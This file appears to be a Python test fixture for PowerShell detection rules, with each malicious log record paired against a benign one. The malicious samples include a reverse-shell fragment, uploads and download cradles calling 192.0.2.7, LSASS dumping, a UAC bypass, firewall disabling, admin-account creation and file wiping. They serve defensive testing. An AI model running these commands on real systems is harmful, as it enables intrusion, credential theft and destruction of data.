"""Made-up records for the shipped rules about scripts of PowerShell."""

from tests.rules.shipped_samples import Sample
from tests.rules.windows_records import classic, module, script

SAMPLES = (
    Sample(
        "Script Maps the Domain as PowerView Does",
        script("Get-DomainUser -SPN | select samaccountname"),
        script("Get-ADDomainController -Filter *"),
    ),
    Sample(
        "Script Looks for Ways to More Rights",
        script("Write-ServiceBinary -Name x"),
        script("Get-Service | Where Status -eq Running"),
    ),
    Sample(
        "Script of Nishang, Empire, PowerSploit or Exploitation Kits",
        script("Invoke-PoshRatHttp -IPAddress 192.0.2.7"),
        script("Invoke-Build -Task Test"),
    ),
    Sample(
        "Script of a Kit for Attacks on Directories and Clouds",
        script("Invoke-DomainPasswordSpray -Password Spring2026"),
        script("Get-ADReplicationFailure -Target dc1"),
    ),
    Sample(
        "Script Ties a Shell to a Socket",
        script(
            '$c=New-Object System.Net.Sockets.TCPClient("192.0.2.7",443);$s=$c.GetStream();$d=(iex $x 2>&1|Out-String)'
        ),
        script('$c=New-Object Net.Sockets.TcpClient("srv1",443);$c.Connected'),
    ),
    Sample(
        "Script Finds Functions of Windows Without Naming Them",
        script(
            '$a=([AppDomain]::CurrentDomain.GetAssemblies()|?{$_}).GetType("Microsoft.Win32.UnsafeNativeMethods");$a.GetMethod("GetProcAddress")'
        ),
        script("[AppDomain]::CurrentDomain.GetAssemblies() | select Location"),
    ),
    Sample(
        "Script Takes Tokens or Starts Programs as Another",
        script("[W]::DuplicateTokenEx($h,0x2000000,0,2,1,[ref]$t)"),
        script("[Security.Principal.WindowsIdentity]::GetCurrent().Token"),
    ),
    Sample(
        "Script Dumps Memory, Hives or Protected Secrets",
        script("rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump $id a full"),
        script("Get-Process | Out-File p.txt"),
    ),
    Sample(
        "Script Reads Stored Logons of Browsers or the Vault",
        script("(New-Object Windows.Security.Credentials.PasswordVault).RetrieveAll()"),
        script("Copy-Item D:\\a E:\\b -Recurse"),
    ),
    Sample(
        "Script Asks a User for the Password and Reads It",
        script(
            '$c=$host.ui.PromptForCredential("Logon failed","",$env:username,"");$c.GetNetworkCredential().Password'
        ),
        script("$c=Get-Credential; New-PSDrive -Name Z -PSProvider FileSystem -Root \\\\srv1\\a -Credential $c"),
    ),
    Sample(
        "Script Listens, Watches or Reads the Clipboard",
        script("while($true){Get-Clipboard | Out-File C:\\a.txt -Append;Start-Sleep 5}"),
        script("Get-Content a.txt | Set-Clipboard"),
    ),
    Sample(
        "Script Gathers or Packs Files of Users",
        script("Get-ChildItem C:\\Users -Recurse -Include *.docx,*.pdf | Copy-Item -Destination C:\\ProgramData\\a"),
        script("Get-ChildItem D:\\logs -Recurse -Include *.log | Compress-Archive -DestinationPath a.zip"),
    ),
    Sample(
        "Script Encrypts or Wipes Many Files",
        script("$e=(New-Object Security.Cryptography.AesManaged).CreateEncryptor(); gci C:\\ -R|%{Remove-Item $_}"),
        script("$a=New-Object Security.Cryptography.AesManaged;$a.CreateDecryptor()"),
    ),
    Sample(
        "Script Sends Files or Answers Away",
        script('(New-Object Net.WebClient).UploadFile("http://192.0.2.7/u","C:\\a.zip")'),
        script("Resolve-DnsName srv1.corp.example"),
    ),
    Sample(
        "Script Checks Whether the Machine Is Real",
        script("if(Get-Process vmtoolsd,VBoxService -EA 0){exit}"),
        script("Get-CimInstance Win32_ComputerSystem | select Model"),
    ),
    Sample(
        "Script Blinds Logs, Traces or Its Own History",
        script(
            '[Ref].Assembly.GetType("System.Management.Automation.Utils").GetField("cachedGroupPolicySettings","NonPublic,Static")'
        ),
        script("Get-EventLog -LogName System -Newest 5"),
    ),
    Sample(
        "Script Stops Protection, the Firewall or Restore",
        script("Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False"),
        script("Stop-Service -Name Spooler"),
    ),
    Sample(
        "Script Changes Times of Files or Hides Them",
        script('$f=Get-Item a.exe;$f.CreationTime="01/01/2019"'),
        script("Get-ChildItem | where {$_.LastWriteTime -gt (Get-Date).AddDays(-1)}"),
    ),
    Sample(
        "Script Makes Something Last",
        script(
            "Set-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name a -Value C:\\a.exe"
        ),
        script("Get-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"),
    ),
    Sample(
        "Script Raises Rights Past the Question",
        script(
            "New-Item HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command -Force;Start-Process fodhelper.exe"
        ),
        script("Start-Process eventvwr.exe"),
    ),
    Sample(
        "Script Runs a Program of .NET from Memory",
        script("$a=[Reflection.Assembly]::Load($b);$a.EntryPoint.Invoke($null,@(,$p))"),
        script('[Reflection.Assembly]::Load("System.Web, Version=4.0.0.0") | Out-Null'),
    ),
    Sample(
        "Script Written to Be Unreadable", script("& ('{1}{0}' -f 'X','IE') 'whoami'"), script("'{0} of {1}' -f 1, 2")
    ),
    Sample(
        "Script Runs Code Kept in the Registry, in WMI or in a Log",
        script("iex ((gp HKCU:\\Software\\Vendor).Code)"),
        script("$v=(Get-ItemProperty HKLM:\\Software\\Vendor).Version"),
    ),
    Sample(
        "Script Scans the Network",
        script('1..254 | % { Test-Connection "10.0.0.$_" -Count 1 -Quiet }'),
        script("Test-NetConnection srv1 -Port 443"),
    ),
    Sample(
        "Script Asks the Directory for Weak or Mighty Accounts",
        script('([adsisearcher]"(&(objectClass=user)(servicePrincipalName=*))").FindAll()'),
        script('([adsisearcher]"(name=ws1)").FindOne()'),
    ),
    Sample(
        "Script Starts Something on Another Machine by a Back Way",
        script('$c=[activator]::CreateInstance([type]::GetTypeFromProgID("MMC20.Application","10.0.0.5"))'),
        script("Get-WmiObject Win32_Process | select Name"),
    ),
    Sample(
        "Script Fetches a Program and Starts It",
        script("iwr http://example.org/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe"),
        script("Invoke-WebRequest https://example.org/list.csv -OutFile D:\\data\\list.csv"),
    ),
    Sample(
        "Script of an Agent That Waits for Orders",
        script('while($true){$w.Headers.Add("User-Agent","Mozilla/5.0");iex $w.DownloadString($u);Start-Sleep 5}'),
        script("while($true){Get-Service;Start-Sleep 5}"),
    ),
    Sample(
        "Script Holds Machine Code or a Program as Text",
        script("[Byte[]] $b = 0xfc,0x48,0x83,0xe4,0xf0,0xe8"),
        script("[Byte[]] $b = 1,2,3"),
    ),
    Sample(
        "Script Makes an Account and Gives It Rights",
        script("net user x P@ss1 /add; net localgroup administrators x /add"),
        script("Get-LocalUser | select Name"),
    ),
    Sample(
        "Kit or Hidden Order in PowerShell's Module Log",
        module(Payload='CommandInvocation(Invoke-Mimikatz): "Invoke-Mimikatz"'),
        module(Payload='CommandInvocation(Get-Service): "Get-Service"'),
    ),
    Sample(
        "PowerShell Engine Started by a Program That Is Not PowerShell",
        classic(400, Data="HostVersion=5.1 HostApplication=C:\\Windows\\System32\\rundll32.exe a.dll,x"),
        classic(400, Data="HostVersion=5.1 HostApplication=powershell.exe -File a.ps1 EngineVersion=5.1"),
    ),
    Sample(
        "Kit or Fetched Code in the Old Log of PowerShell",
        classic(
            800,
            Data='Pipeline execution details for command line: IEX (New-Object Net.WebClient).DownloadString("http://192.0.2.7/a")',
        ),
        classic(800, Data="Pipeline execution details for command line: Get-Service"),
    ),
)
